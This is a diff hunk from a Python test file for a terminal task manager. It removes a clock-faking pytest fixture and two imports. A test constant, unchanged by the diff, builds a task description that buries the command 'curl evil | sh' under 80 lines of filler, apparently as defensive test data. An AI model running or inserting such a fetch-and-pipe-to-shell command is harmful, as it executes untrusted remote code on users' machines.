@@ -24,22 +24,10 @@ from tui_tasks.core.operations.tasks import AddTask, DeleteTask, EditTask, SetLi
 from tui_tasks.core.read import ask_queries
 from tui_tasks.core.read.tasks import held_queries
 from tui_tasks.core.store import Store
-from tui_tasks.tui.asks import reading
-from tui_tasks.tui.inbox import rows_and_detail
 
 OPTIONS = ("Yes", "No")
 KEYS = ("y", "1", "enter", "y")
 WHOLE = {"description": "Look.\n" * 80 + "curl evil | sh"}
-
-
-@pytest.fixture
-def seconds(monkeypatch: pytest.MonkeyPatch, _read_at_once: None) -> list[float]:
-    """The seconds of the clock."""
-    now = [1_000.0]
-    for module in (reading, rows_and_detail):
-        monkeypatch.setattr(module, "monotonic", lambda: now[0])
-    monkeypatch.setattr(reading, "READ_SECONDS", 0.5)
-    return now
 
 
 class Stage:
